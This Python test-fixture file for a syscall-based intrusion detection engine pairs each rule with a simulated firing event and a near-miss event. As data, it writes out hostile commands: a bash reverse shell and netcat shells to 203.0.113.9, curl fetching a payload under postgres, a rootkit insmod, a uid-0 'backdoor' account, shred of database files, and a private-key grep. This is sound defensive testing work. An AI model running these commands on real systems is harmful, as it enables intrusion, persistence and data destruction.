"""One entry per default rule: a syscall story that must fire it and one that must not.

Each near miss differs from its firing story in the one detail the rule is about (the path,
the program, the container, the user, the flag), so a rule that matched too much or too
little fails here. ``tests/unit/default_rules/test_default_rules.py`` runs both through the
engine, and checks that every rule in ``rules/sentry_rules.yaml`` has an entry.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from sentry.rules.story import (
    AT_EMPTY_PATH,
    CLONE_NEWNS,
    CLONE_NEWUSER,
    O_APPEND,
    O_CREAT,
    O_F_CREATED,
    O_RDONLY,
    O_TRUNC,
    O_WRONLY,
    PTRACE_ATTACH,
    PTRACE_PEEKDATA,
    PTRACE_POKETEXT,
    S_ISUID,
    Proc,
    Story,
    container_id,
)

WRITE = O_WRONLY | O_CREAT | O_TRUNC
APPEND = O_WRONLY | O_APPEND
IN_CONTAINER = container_id("web")
ALICE = 1000


@dataclass(frozen=True)
class RuleCase:
    """A rule with a story that fires it and a near miss that must not."""

    rule: str
    fire: Callable[[], Story]
    near_miss: Callable[[], Story]


# ---------------------------------------------------------------------------- story makers


def opened(
    path: str,
    flags: int = WRITE,
    *,
    program: str = "python3",
    args: tuple[str, ...] = ("tool.py",),
    parent: str = "bash",
    uid: int = 0,
    container: str | None = None,
    syscall: str = "openat",
) -> Callable[[], Story]:
    """``program`` (child of ``parent``) opens ``path`` with ``flags``."""

    def make() -> Story:
        s = Story()
        top = s.proc(parent, uid=uid, container=container)
        p = s.proc(program, *args, parent=top, uid=uid)
        s.open(p, path, flags, syscall=syscall)
        return s

    return make


def started(
    program: str,
    *args: str,
    parent: str = "bash",
    container: str | None = None,
    tty: int = 0,
    exe: str | None = None,
    filename: str | None = None,
) -> Callable[[], Story]:
    """``parent`` starts ``program args...`` through execve."""

    def make() -> Story:
        s = Story()
        top = s.proc(parent, container=container, tty=tty)
        s.execve(top, program, *args, exe=exe, filename=filename)
        return s

    return make


def acting(
    program: str,
    act: Callable[[Story, Proc], None],
    *,
    uid: int = 0,
    container: str | None = None,
    parent: str = "bash",
) -> Callable[[], Story]:
    """A running ``program`` (child of ``parent``) performs ``act(story, proc)``."""

    def make() -> Story:
        s = Story()
        top = s.proc(parent, uid=uid, container=container)
        p = s.proc(program, parent=top, uid=uid)
        act(s, p)
        return s

    return make


def _mknodat(s: Story, p: Proc, path: str, mode: int, dev: int) -> None:
    s.syscall(p, "mknodat", {}, {"res": 0, "dirfd": -100, "path": path, "mode": mode, "dev": dev})


def _open_by_handle(s: Story, p: Proc, fd: int) -> None:
    """open_by_handle_at of the host's /etc/shadow through mount fd 3 (fd < 0: refused)."""
    path = "/etc/shadow" if fd >= 0 else ""
    exit_ = {"fd": fd, "mountfd": 3, "flags": 1, "path": path, "dev": 0, "ino": 0}
    s.syscall(p, "open_by_handle_at", {}, exit_)


def connected(
    program: str, ip: str, port: int, *, container: str | None = None
) -> Callable[[], Story]:
    return acting(program, lambda s, p: s.connect(p, ip, port), container=container)


def redirected(oldfd_kind: str, newfd: int) -> Callable[[], Story]:
    """python3 duplicates a socket (or a file) onto ``newfd``."""

    def act(s: Story, p: Proc) -> None:
        if oldfd_kind == "socket":
            s.connect(p, "203.0.113.9", 443, fd=5)
        else:
            s.open(p, "/tmp/out.log", WRITE, fd=5)
        s.dup(p, 5, newfd)

    return acting("python3", act)


# ---------------------------------------------------------------------------- the table

CASES: list[RuleCase] = [
    # --- file system
    RuleCase(
        "File Written Below Root Or Root Home",
        opened("/hoge.sh", program="vi", args=("hoge.sh",)),
        opened("/tmp/hoge.sh", program="vi", args=("hoge.sh",)),
    ),
    RuleCase(
        "File Written Below Etc",
        opened("/etc/hosts"),
        opened("/etc/hosts", program="dpkg", args=("-i", "netbase.deb")),
    ),
    RuleCase(
        "File Written Below Executable Directory",
        opened("/usr/bin/kubectl", program="curl", args=("-o", "/usr/bin/kubectl")),
        opened("/usr/bin/kubectl", program="dpkg", args=("-i", "kubectl.deb")),
    ),
    RuleCase(
        "Directory Created Below Executable Directory",
        acting("mkdir", lambda s, p: s.mkdir(p, "/usr/bin/.cache")),
        acting("mkdir", lambda s, p: s.mkdir(p, "/usr/share/.cache")),
    ),
    RuleCase(
        "Executable Renamed Or Removed",
        acting("mv", lambda s, p: s.rename(p, "/usr/bin/ls", "/tmp/ls")),
        acting("mv", lambda s, p: s.rename(p, "/tmp/ls", "/tmp/ls.old")),
    ),
    RuleCase(
        "File Written Below Boot",
        opened("/boot/vmlinuz-6.1.0"),
        opened("/boot/initrd.img-6.1.0", program="update-initramfs", args=("-u",)),
    ),
    RuleCase(
        "Dynamic Linker Preload Modified",
        opened("/etc/ld.so.preload", APPEND, program="bash", args=()),
        opened("/etc/ld.so.preload", O_RDONLY, program="bash", args=()),
    ),
    RuleCase(
        "Password File Read By Unexpected Program",
        opened("/etc/shadow", O_RDONLY, program="cat", args=("/etc/shadow",)),
        opened("/etc/shadow", O_RDONLY, program="sshd", args=("-D",), parent="systemd"),
    ),
    RuleCase(
        "SSH Private Key Read",
        opened("/root/.ssh/id_rsa", O_RDONLY, program="cat", args=("/root/.ssh/id_rsa",)),
        opened("/root/.ssh/id_rsa", O_RDONLY, program="ssh", args=("git@example.com",)),
    ),
    RuleCase(
        "SSH Authorized Keys Modified",
        opened("/home/alice/.ssh/authorized_keys", APPEND, program="bash", args=()),
        opened("/home/alice/.ssh/authorized_keys", O_RDONLY, program="bash", args=()),
    ),
    RuleCase(
        "Account Database Modified Directly",
        opened("/etc/passwd", APPEND),
        opened("/etc/passwd", APPEND, program="useradd", args=("eve",)),
    ),
    RuleCase(
        "Shell History Truncated",
        opened("/root/.bash_history", O_WRONLY | O_TRUNC, program="bash", args=()),
        opened("/root/.bash_history", APPEND, program="bash", args=()),
    ),
    RuleCase(
        "Shell History Deleted",
        acting("rm", lambda s, p: s.unlink(p, "/root/.bash_history")),
        acting("rm", lambda s, p: s.unlink(p, "/root/notes.txt")),
    ),
    RuleCase(
        "Shell History Linked To Null Device",
        acting("ln", lambda s, p: s.symlink(p, "/dev/null", "/root/.bash_history")),
        acting("ln", lambda s, p: s.symlink(p, "/dev/null", "/root/.quiet")),
    ),
    RuleCase(
        "Log File Truncated",
        opened("/var/log/auth.log", O_WRONLY | O_TRUNC, program="bash", args=()),
        opened(
            "/var/log/auth.log",
            O_WRONLY | O_TRUNC,
            program="logrotate",
            args=("/etc/logrotate.conf",),
        ),
    ),
    RuleCase(
        "Log File Deleted",
        acting("rm", lambda s, p: s.unlink(p, "/var/log/syslog", at=False)),
        acting("logrotate", lambda s, p: s.unlink(p, "/var/log/syslog.7.gz", at=False)),
    ),
    RuleCase(
        "Scheduled Job Modified",
        opened("/etc/cron.d/update", APPEND, program="bash", args=()),
        opened("/etc/cron.daily/apt-compat", WRITE, program="dpkg", args=("-i", "apt.deb")),
    ),
    RuleCase(
        "Crontab Program Run In Container",
        started("crontab", "/tmp/jobs", parent="sh", container=IN_CONTAINER),
        started("crontab", "/tmp/jobs", parent="sh"),
    ),
    RuleCase(
        "Service Unit Written",
        opened("/etc/systemd/system/update.service"),
        opened("/lib/systemd/system/ssh.service", program="dpkg", args=("-i", "ssh.deb")),
    ),
    RuleCase(
        "Shell Startup File Modified",
        opened("/root/.bashrc", APPEND),
        opened("/root/.bashrc", APPEND, program="vim", args=("/root/.bashrc",)),
    ),
    RuleCase(
        "Setuid Or Setgid Bit Set",
        acting("chmod", lambda s, p: s.chmod(p, "/tmp/sh", S_ISUID | 0o755)),
        acting("chmod", lambda s, p: s.chmod(p, "/tmp/sh", 0o755)),
    ),
    RuleCase(
        "Process Memory Opened",
        opened("/proc/1234/mem", O_RDONLY),
        opened("/proc/1234/mem", O_RDONLY, program="gdb", args=("-p", "1234")),
    ),
    RuleCase(
        "Kernel Core Pattern Written",
        opened(
            "/proc/sys/kernel/core_pattern", O_WRONLY, program="sh", args=(), container=IN_CONTAINER
        ),
        opened(
            "/proc/sys/kernel/core_pattern", O_RDONLY, program="sh", args=(), container=IN_CONTAINER
        ),
    ),
    RuleCase(
        "Cgroup Release Agent Written",
        opened(
            "/sys/fs/cgroup/rdma/release_agent",
            O_WRONLY,
            program="sh",
            args=(),
            container=IN_CONTAINER,
        ),
        opened(
            "/sys/fs/cgroup/rdma/notify_on_release",
            O_WRONLY,
            program="sh",
            args=(),
            container=IN_CONTAINER,
        ),
    ),
    # --- processes
    RuleCase(
        "Shell Started In Container",
        started("sh", "-c", "id", parent="node", container=IN_CONTAINER),
        started("sh", "-c", "id", parent="node"),
    ),
    RuleCase(
        "Interactive Terminal Shell In Container",
        started("bash", parent="runc", container=IN_CONTAINER, tty=34816),
        started("bash", parent="runc", container=IN_CONTAINER, tty=0),
    ),
    RuleCase(
        "Shell Spawned By Web Server",
        started("sh", "-c", "id", parent="nginx"),
        started("sh", "-c", "id", parent="sshd"),
    ),
    RuleCase(
        "Shell Spawned By Database Server",
        started("sh", "-c", "whoami", parent="mysqld"),
        started("hostname", parent="mysqld"),
    ),
    RuleCase(
        "Shell Redirected To Network Device",
        started("bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
        started("bash", "-c", "cat /dev/null"),
    ),
    RuleCase(
        "Standard Stream Redirected To Socket",
        redirected("socket", 0),
        redirected("file", 0),
    ),
    RuleCase(
        "Package Manager Run In Container",
        started("apt-get", "install", "-y", "nmap", parent="sh", container=IN_CONTAINER),
        started("apt-get", "install", "-y", "nmap", parent="sh"),
    ),
    RuleCase(
        "Network Scanner Run",
        started("nmap", "-sS", "10.0.0.0/24"),
        started("ping", "-c", "1", "10.0.0.1"),
    ),
    RuleCase(
        "Network Relay Tool Run In Container",
        started("nc", "203.0.113.9", "80", parent="sh", container=IN_CONTAINER),
        started("nc", "203.0.113.9", "80", parent="sh"),
    ),
    RuleCase(
        "Netcat Command Execution",
        started("nc", "-lvp", "4444", "-e", "/bin/sh"),
        started("nc", "-lvp", "4444"),
    ),
    RuleCase(
        "Kernel Module Tool Run",
        started("insmod", "/tmp/rootkit.ko"),
        started("modprobe", "-r", "dummy"),
    ),
    RuleCase(
        "Kernel Module Loaded",
        acting("insmod", lambda s, p: s.generic(p, "finit_module")),
        acting("rmmod", lambda s, p: s.generic(p, "delete_module")),
    ),
    RuleCase(
        "Namespace Changed By Unexpected Program",
        acting("nsenter", lambda s, p: s.setns(p)),
        acting("runc", lambda s, p: s.setns(p), parent="containerd-shim"),
    ),
    RuleCase(
        "Namespace Unshared In Container",
        acting(
            "unshare",
            lambda s, p: s.unshare(p, CLONE_NEWNS | CLONE_NEWUSER),
            container=IN_CONTAINER,
        ),
        acting("unshare", lambda s, p: s.unshare(p, CLONE_NEWNS | CLONE_NEWUSER)),
    ),
    RuleCase(
        "Process Attached With Ptrace",
        acting("python3", lambda s, p: s.ptrace(p, PTRACE_ATTACH, 1234)),
        acting("gdb", lambda s, p: s.ptrace(p, PTRACE_ATTACH, 1234)),
    ),
    RuleCase(
        "Process Memory Written With Ptrace",
        acting("python3", lambda s, p: s.ptrace(p, PTRACE_POKETEXT, 1234)),
        acting("python3", lambda s, p: s.ptrace(p, PTRACE_PEEKDATA, 1234)),
    ),
    RuleCase(
        "Program Run From File Descriptor",
        started("kworker", exe="kworker", filename="/proc/self/fd/4", parent="python3"),
        started("ls", exe="ls", filename="/usr/bin/ls", parent="python3"),
    ),
    RuleCase(
        "Program Run From Temporary Directory",
        started("xm", exe="/tmp/.x/xm", filename="/tmp/.x/xm"),
        started("ls", exe="/usr/bin/ls", filename="/usr/bin/ls"),
    ),
    RuleCase(
        "Coin Miner Started",
        started("python3", "m.py", "-o", "stratum+tcp://pool.example.com:3333"),
        started("python3", "m.py", "-o", "https://pool.example.com"),
    ),
    RuleCase(
        "Credential Search Command",
        started("grep", "-r", "BEGIN RSA PRIVATE", "/home"),
        started("grep", "-r", "TODO", "/home/alice/src"),
    ),
    RuleCase(
        "Account Tool Run In Container",
        started("useradd", "eve", parent="sh", container=IN_CONTAINER),
        started("useradd", "eve", parent="sh"),
    ),
    RuleCase(
        "Privilege Switch Tool Run In Container",
        started("sudo", "id", parent="sh", container=IN_CONTAINER),
        started("sudo", "id", parent="sh"),
    ),
    RuleCase(
        "Firewall Changed From Container",
        started("iptables", "-F", parent="sh", container=IN_CONTAINER),
        started("iptables", "-F", parent="sh"),
    ),
    RuleCase(
        "Raw Disk Tool Run In Container",
        started("debugfs", "/dev/sda1", parent="sh", container=IN_CONTAINER),
        started("debugfs", "/dev/sda1", parent="sh"),
    ),
    # --- privileges and kernel interfaces
    RuleCase(
        "Non-Root Process Set User To Root",
        acting("python3", lambda s, p: s.setuid(p, 0, res=-1), uid=ALICE),
        acting("python3", lambda s, p: s.setuid(p, ALICE), uid=ALICE),
    ),
    RuleCase(
        "Capabilities Set By Non-Root Process",
        acting("python3", lambda s, p: s.generic(p, "capset"), uid=ALICE),
        acting("python3", lambda s, p: s.generic(p, "capset")),
    ),
    RuleCase(
        "File System Mounted In Container",
        acting(
            "mount", lambda s, p: s.mount(p, "/dev/sda1", "/mnt", "ext4"), container=IN_CONTAINER
        ),
        acting("mount", lambda s, p: s.mount(p, "/dev/sda1", "/mnt", "ext4")),
    ),
    RuleCase(
        "BPF Called By Non-Root Process",
        acting("python3", lambda s, p: s.bpf(p), uid=ALICE),
        acting("python3", lambda s, p: s.bpf(p)),
    ),
    RuleCase(
        "BPF Called In Container",
        acting("python3", lambda s, p: s.bpf(p), container=IN_CONTAINER),
        acting("python3", lambda s, p: s.bpf(p)),
    ),
    # --- network
    RuleCase(
        "Outbound Connection To Attack Tool Port",
        connected("python3", "203.0.113.9", 4444),
        connected("python3", "203.0.113.9", 443),
    ),
    RuleCase(
        "Outbound Connection To Mining Pool Port",
        connected("node", "198.51.100.7", 3333),
        connected("node", "198.51.100.7", 443),
    ),
    RuleCase(
        "Outbound Connection From Shell",
        connected("bash", "203.0.113.9", 443),
        connected("curl", "203.0.113.9", 443),
    ),
    RuleCase(
        "Cloud Metadata Contacted From Container",
        connected("curl", "169.254.169.254", 80, container=IN_CONTAINER),
        connected("curl", "169.254.169.254", 80),
    ),
    RuleCase(
        "Shell Listening For Connections",
        acting("nc", lambda s, p: s.listen(p, port=4444)),
        acting("nginx", lambda s, p: s.listen(p, port=80), parent="systemd"),
    ),
    RuleCase(
        "Container Runtime Socket Contacted From Container",
        acting(
            "curl", lambda s, p: s.connect_unix(p, "/var/run/docker.sock"), container=IN_CONTAINER
        ),
        acting("curl", lambda s, p: s.connect_unix(p, "/var/run/docker.sock")),
    ),
    # --- the gaps of issue 16
    RuleCase(
        "Process Environment Read",
        opened("/proc/1/environ", O_RDONLY),
        opened("/proc/self/environ", O_RDONLY),
    ),
    RuleCase(
        "Link To Sensitive File Created",
        acting("ln", lambda s, p: s.symlink(p, "../../etc/shadow", "/tmp/notes")),
        acting("ln", lambda s, p: s.symlink(p, "/etc/hostname", "/tmp/notes")),
    ),
    RuleCase(
        "File Created Below Dev",
        opened("/dev/.cache", WRITE | O_F_CREATED, program="bash", args=()),
        opened("/dev/null", WRITE, program="bash", args=()),
    ),
    RuleCase(
        "Node Created Below Dev",
        acting("mknod", lambda s, p: _mknodat(s, p, "/dev/sdz", 0o60600, (8 << 20) | 0)),
        acting("mknod", lambda s, p: _mknodat(s, p, "/dev/shm/queue", 0o10600, 0)),
    ),
    RuleCase(
        "Block Device Node Created",
        acting("mknod", lambda s, p: _mknodat(s, p, "/tmp/disk", 0o60600, (8 << 20) | 0)),
        acting("mknod", lambda s, p: _mknodat(s, p, "/tmp/null", 0o20600, (1 << 20) | 3)),
    ),
    RuleCase(
        "File Opened By Handle",
        acting("python3", lambda s, p: _open_by_handle(s, p, 5)),
        acting("python3", lambda s, p: _open_by_handle(s, p, -1)),
    ),
    RuleCase(
        "Raw Access Device Node Created",
        acting("mknod", lambda s, p: _mknodat(s, p, "/tmp/mem", 0o20600, (1 << 20) | 1)),
        acting("mknod", lambda s, p: _mknodat(s, p, "/tmp/null", 0o20600, (1 << 20) | 3)),
    ),
    RuleCase(
        "File Open By Handle Failed",
        acting("python3", lambda s, p: _open_by_handle(s, p, -1)),
        acting("python3", lambda s, p: _open_by_handle(s, p, 5)),
    ),
    RuleCase(
        "Program Spawned By Database Server",
        started("curl", "-o", "/tmp/x", "http://203.0.113.9/x", parent="postgres"),
        started("postgres", "-D", "/var/lib/postgresql", parent="postgres"),
    ),
    RuleCase(
        "Namespace Unshared On Host By Unexpected Program",
        acting("python3", lambda s, p: s.unshare(p, CLONE_NEWUSER), uid=ALICE),
        acting("python3", lambda s, p: s.unshare(p, CLONE_NEWUSER, res=-1), uid=ALICE),
    ),
    RuleCase(
        "Network Tool Run On Host",
        started("tcpdump", "-i", "eth0", filename="/usr/sbin/tcpdump"),
        started("tcpdump", "-i", "eth0", container=IN_CONTAINER),
    ),
    RuleCase(
        "User Management Tool Run On Host",
        started("useradd", "-o", "-u", "0", "backdoor", filename="/usr/sbin/useradd"),
        started("useradd", "eve", parent="sh", container=IN_CONTAINER),
    ),
    RuleCase(
        "Bulk Data Destruction",
        started("shred", "-u", "/var/lib/mysql/ibdata1"),
        started("rm", "/var/lib/mysql/ibdata1"),
    ),
    RuleCase(
        "Packet Socket Opened",
        acting("python3", lambda s, p: s.socket(p, 3, family=17)),
        acting("python3", lambda s, p: s.socket(p, 3, family=2)),
    ),
]

CASES_BY_RULE: dict[str, RuleCase] = {case.rule: case for case in CASES}

# More firing stories: another syscall or another form of what the rule is about.
EXTRA_FIRES: list[tuple[str, Callable[[], Story]]] = [
    (
        "Program Run From File Descriptor",
        acting("python3", lambda s, p: s.execveat(p, "", AT_EMPTY_PATH)),
    ),
    (
        "Non-Root Process Set User To Root",
        acting("python3", lambda s, p: s.setresuid(p, 0, 0, 0, res=-1), uid=ALICE),
    ),
    (
        "File Written Below Root Or Root Home",
        opened("/root/.ssh/config", APPEND, program="bash", args=(), syscall="open"),
    ),
]


@dataclass(frozen=True)
class Overlap:
    """An event two rules match: ``rule`` must be the one alert, ahead of ``broader``.

    An event raises one alert, from the first matching rule in file order, so the specific
    rule must come before the broad one; with ``rule`` disabled, ``broader`` still catches it.
    """

    rule: str
    broader: str
    story: Callable[[], Story]


OVERLAPS: list[Overlap] = [
    Overlap(
        "Dynamic Linker Preload Modified",
        "File Written Below Etc",
        CASES_BY_RULE["Dynamic Linker Preload Modified"].fire,
    ),
    Overlap(
        "Account Database Modified Directly",
        "File Written Below Etc",
        CASES_BY_RULE["Account Database Modified Directly"].fire,
    ),
    Overlap(
        "Scheduled Job Modified",
        "File Written Below Etc",
        CASES_BY_RULE["Scheduled Job Modified"].fire,
    ),
    Overlap(
        "Service Unit Written", "File Written Below Etc", CASES_BY_RULE["Service Unit Written"].fire
    ),
    Overlap(
        "Shell Startup File Modified", "File Written Below Etc", opened("/etc/profile", APPEND)
    ),
    Overlap(
        "Shell Startup File Modified",
        "File Written Below Root Or Root Home",
        CASES_BY_RULE["Shell Startup File Modified"].fire,
    ),
    Overlap(
        "SSH Authorized Keys Modified",
        "File Written Below Root Or Root Home",
        opened("/root/.ssh/authorized_keys", APPEND, program="bash", args=()),
    ),
    Overlap(
        "Interactive Terminal Shell In Container",
        "Shell Started In Container",
        CASES_BY_RULE["Interactive Terminal Shell In Container"].fire,
    ),
    Overlap(
        "Shell Spawned By Web Server",
        "Shell Started In Container",
        started("sh", "-c", "id", parent="nginx", container=IN_CONTAINER),
    ),
    Overlap(
        "Shell Redirected To Network Device",
        "Shell Started In Container",
        started(
            "bash",
            "-c",
            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            parent="node",
            container=IN_CONTAINER,
        ),
    ),
    Overlap(
        "Netcat Command Execution",
        "Network Relay Tool Run In Container",
        started("nc", "-e", "/bin/sh", "203.0.113.9", "4444", parent="sh", container=IN_CONTAINER),
    ),
    Overlap(
        "Shell Spawned By Database Server",
        "Program Spawned By Database Server",
        CASES_BY_RULE["Shell Spawned By Database Server"].fire,
    ),
    Overlap(
        "Netcat Command Execution",
        "Network Tool Run On Host",
        started("nc", "-e", "/bin/sh", "203.0.113.9", "4444"),
    ),
    Overlap(
        "Coin Miner Started",
        "Program Run From Temporary Directory",
        started("xmrig", "-o", "pool.example.com:3333", exe="/tmp/xmrig", filename="/tmp/xmrig"),
    ),
]
